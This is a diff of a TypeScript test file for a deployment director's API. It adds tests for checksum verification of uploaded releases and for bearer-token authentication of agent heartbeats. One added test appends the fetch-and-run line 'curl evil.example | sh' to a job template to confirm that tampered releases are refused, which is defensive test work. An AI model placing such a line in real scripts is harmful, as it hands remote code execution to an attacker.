@@ -1,4 +1,4 @@
-import { readFileSync } from 'node:fs';
+import { cpSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import Fastify from 'fastify';
 import type { FastifyInstance } from 'fastify';
@@ -6,7 +6,7 @@ import { c as createTar } from 'tar';
 import { afterEach, describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { directorApi, directorApiPrefix } from '../../lifecycle/index.js';
-import { dummyDirector, etcdManifest, etcdReleaseDir, repoRoot } from './support.js';
+import { dummyDirector, etcdManifest, etcdReleaseDir, repoRoot, tmp } from './support.js';
 import type { DummyRig } from './support.js';
 
 let rig: DummyRig;
@@ -59,6 +59,20 @@ describe('director API', () => {
     expect(junk.json().error.message).toMatch(/not a readable tarball|release\.yml is missing/);
     const text = await app.inject({ method: 'POST', url: `${P}/releases`, payload: 'x', headers: { 'content-type': 'text/plain' } });
     expect(text.statusCode).toBe(415);
+    // A release whose files do not match the checksums in its release.yml is refused, naming the item.
+    const t = tmp('tampered');
+    try {
+      cpSync(etcdReleaseDir, t.dir, { recursive: true });
+      writeFileSync(join(t.dir, 'release.yml'), readFileSync(join(t.dir, 'release.yml'), 'utf8').replace('version: 1', 'version: 2'));
+      writeFileSync(join(t.dir, 'jobs/etcd/templates/run.sh.tpl'), `${readFileSync(join(t.dir, 'jobs/etcd/templates/run.sh.tpl'), 'utf8')}\ncurl evil.example | sh\n`);
+      const parts: Buffer[] = [];
+      for await (const c of createTar({ gzip: true, cwd: t.dir, portable: true }, ['.'])) parts.push(Buffer.from(c as Uint8Array));
+      const tampered = await app.inject({ method: 'POST', url: `${P}/releases`, payload: Buffer.concat(parts), headers: { 'content-type': 'application/gzip' } });
+      expect(tampered.statusCode).toBe(400);
+      expect(tampered.json().error.message).toMatch(/^release: jobs\/etcd does not match its checksum in release\.yml/);
+    } finally {
+      t.cleanup();
+    }
     const list = await app.inject({ method: 'GET', url: `${P}/releases` });
     expect(list.json()).toMatchObject([{ name: 'etcd', version: '1', jobs: ['etcd'], inUseBy: [] }]);
   });
@@ -72,7 +86,7 @@ describe('director API', () => {
     ['a heal without a reason', 'POST', '/deployments/etcd/heal', { instance: 'etcd/0', action: 'recreate' }, 400, /body\.reason: Invalid input/],
     ['a heal of a malformed instance', 'POST', '/deployments/etcd/heal', { instance: 'etcd', action: 'restart', reason: 'r' }, 400, /body\.instance: an instance like "etcd\/0"/],
     ['an unknown action', 'POST', '/deployments/etcd/instances/actions', { action: 'reboot' }, 400, /body\.action: Invalid option/],
-    ['a heartbeat for another agent', 'POST', '/agents/a1/heartbeat', { agent_id: 'a2', job_state: 'running', processes: [], spec_hash: null }, 400, /does not match the URL's agent "a1"/],
+    ['a heartbeat without the agent credential', 'POST', '/agents/a1/heartbeat', { agent_id: 'a1', job_state: 'running', processes: [], spec_hash: null }, 401, /agent "a1": send Authorization: Bearer/],
   ] as const)('answers %s with a precise error', async (_n, method, url, payload, status, want) => {
     await setup();
     const res = await app.inject({ method, url: `${P}${url}`, ...(payload !== undefined ? { payload } : {}) });
@@ -96,7 +110,13 @@ describe('director API', () => {
     const heal = await app.inject({ method: 'POST', url: `${P}/deployments/etcd/heal`, payload: { instance: 'etcd/1', action: 'restart', reason: 'alert X' } });
     expect(heal.statusCode).toBe(202);
     expect((await rig.director.waitTask(heal.json().task_id as number)).state).toBe('done');
-    const beat = await app.inject({ method: 'POST', url: `${P}/agents/a1/heartbeat`, payload: { agent_id: 'a1', job_state: 'running', processes: [], spec_hash: null } });
+    // An agent heartbeats with its own credential; its body must name the same agent.
+    const vm = [...rig.cpi.vms.values()][0];
+    if (vm === undefined) throw new Error('no VM');
+    const headers = { authorization: `Bearer ${vm.secret}` };
+    const beat = await app.inject({ method: 'POST', url: `${P}/agents/${vm.agentId}/heartbeat`, headers, payload: { agent_id: vm.agentId, job_state: 'running', processes: [], spec_hash: null } });
     expect(beat.statusCode).toBe(204);
+    const other = await app.inject({ method: 'POST', url: `${P}/agents/${vm.agentId}/heartbeat`, headers, payload: { agent_id: 'a2', job_state: 'running', processes: [], spec_hash: null } });
+    expect(other.json().error.message).toMatch(/does not match the URL's agent/);
   });
 });
